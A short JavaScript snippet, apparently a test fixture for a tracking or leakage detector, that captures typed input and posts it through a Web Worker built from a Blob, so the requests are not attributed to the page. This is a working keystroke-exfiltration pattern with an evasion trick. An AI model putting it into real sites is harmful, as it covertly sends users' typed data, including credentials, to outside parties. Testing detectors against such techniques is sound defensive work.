// A worker posts what is typed: its requests are not the page's.
(() => {
  const code = 'onmessage = (e) => fetch(e.data.url, { method: "POST", body: e.data.body }).catch(() => {});';
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  trap.onTyping((values) => worker.postMessage({ url: trap.at('worker'), body: trap.query(values) }));
})();
